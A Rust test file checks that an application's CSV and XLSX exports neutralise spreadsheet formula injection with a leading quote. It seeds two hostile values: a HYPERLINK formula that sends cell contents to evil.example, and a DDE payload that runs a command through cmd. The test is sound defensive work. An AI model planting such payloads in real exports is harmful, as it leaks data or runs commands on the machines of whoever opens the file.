//! CSV/XLSX downloads never hand a spreadsheet a formula: a text cell that begins with `=`,
//! `+`, `-`, `@`, a tab or a carriage return is written with a leading `'` (OWASP's rule), in
//! every download (record exports, templates, aggregates, coverage). Plain numbers stay
//! numbers, and an export still re-imports unchanged.

use std::io::Cursor;

use calamine::{Data, Reader};
use serde_json::json;
use tongxin::auth::{Role, Viewer, tokens};
use tongxin::service::audit::Actor;
use tongxin::service::bulk::{self, ImportOptions, RecordKind};

use crate::helpers::{TestDb, execute, spawn_app};

const EVIL_NAME: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"点我")"#;
const EVIL_UNIT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// Would a spreadsheet read this cell as a formula (or a command)?
fn dangerous(cell: &str) -> bool {
    let plain_number = cell.strip_prefix(['-', '+']).is_some_and(|rest| {
        !rest.is_empty()
            && rest.parse::<f64>().is_ok()
            && !rest.contains(['e', 'E', 'i', 'n', 'N', 'I'])
    });
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
}

fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes)
        .unwrap()
        .trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn xlsx_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut workbook = calamine::open_workbook_auto_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let mut all = Vec::new();
    for (_, range) in workbook.worksheets() {
        for row in range.rows() {
            all.push(
                row.iter()
                    .map(|c| match c {
                        Data::String(s) => s.clone(),
                        other => other.to_string(),
                    })
                    .collect(),
            );
        }
    }
    all
}

fn assert_no_formula(what: &str, cells: &[Vec<String>]) {
    for row in cells {
        for cell in row {
            assert!(
                !dangerous(cell),
                "{what}: a formula cell {cell:?} in {row:?}"
            );
        }
    }
}

fn has_cell(cells: &[Vec<String>], expected: &str) -> bool {
    cells.iter().flatten().any(|c| c == expected)
}

#[tokio::test]
async fn formula_like_text_is_neutralised_in_every_download() {
    let test = TestDb::seeded().await;
    let schema = test.schema();
    let created = execute(
        &schema,
        "mutation($name: String!) { createOrganization(input: { name: $name, kind: ENTERPRISE, region: \"620421101\" }) { organization { id } userErrors { code } } }",
        json!({ "name": EVIL_NAME }),
        Viewer::system(),
    )
    .await;
    assert!(
        created["data"]["createOrganization"]["organization"]["id"].is_string(),
        "{created}"
    );
    let person = execute(
        &schema,
        "{ people(first: 1) { edges { node { id version } } } }",
        json!({}),
        Viewer::system(),
    )
    .await;
    let node = &person["data"]["people"]["edges"][0]["node"];
    let updated = execute(
        &schema,
        "mutation($input: UpdatePersonInput!) { updatePerson(input: $input) { userErrors { code } } }",
        json!({ "input": { "id": node["id"], "expectedVersion": node["version"], "workUnit": EVIL_UNIT } }),
        Viewer::system(),
    )
    .await;
    assert_eq!(
        updated["data"]["updatePerson"]["userErrors"],
        json!([]),
        "{updated}"
    );

    let (_, admin) = tokens::create(&test.db, "admin", Role::Admin, None, None, "test")
        .await
        .unwrap();
    let (base, _server) = spawn_app(test.db.clone()).await;
    let client = reqwest::Client::new();
    let mut csv_downloads = Vec::new();
    for path in [
        "/export/organizations",
        "/export/people",
        "/export/activities",
        "/export/pairings",
        "/export/organizations/template",
        "/export/people/template",
        "/export/aggregate/organizations",
        "/export/coverage/620400",
    ] {
        for extension in ["csv", "xlsx"] {
            let response = client
                .get(format!("{base}{path}.{extension}"))
                .bearer_auth(&admin)
                .send()
                .await
                .unwrap();
            assert_eq!(response.status(), 200, "{path}.{extension}");
            let bytes = response.bytes().await.unwrap();
            let cells = if extension == "csv" {
                csv_cells(&bytes)
            } else {
                xlsx_cells(&bytes)
            };
            assert_no_formula(&format!("{path}.{extension}"), &cells);
            if path == "/export/organizations" {
                assert!(has_cell(&cells, &format!("'{EVIL_NAME}")), "{extension}");
                csv_downloads.push((extension, bytes.to_vec()));
            }
            if path == "/export/people" {
                assert!(has_cell(&cells, &format!("'{EVIL_UNIT}")), "{extension}");
            }
        }
    }
    // The neutralising quote is not data: the export re-imports without a change.
    for (extension, bytes) in csv_downloads {
        let options = ImportOptions {
            kind: RecordKind::Organizations,
            file_name: Some(&format!("export.{extension}")),
            dry_run: true,
            confirm_rows: &[],
            as_of: None,
            expected_plan: None,
        };
        let report = bulk::import(
            &test.db,
            &crate::helpers::data_keys(),
            &Actor::system(),
            options,
            &bytes,
            &|_, _| {},
        )
        .await
        .unwrap();
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        assert_eq!((report.created, report.updated), (0, 0), "{extension}");
    }
}

#[test]
fn numbers_stay_numbers_and_text_is_neutralised() {
    use tongxin::service::bulk::sheet::neutralise;
    for number in ["-5", "-12.50", "+3", "0", "42"] {
        assert_eq!(neutralise(number), number);
    }
    for (text, safe) in [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("白银", "白银"),
    ] {
        assert_eq!(neutralise(text), safe);
    }
}
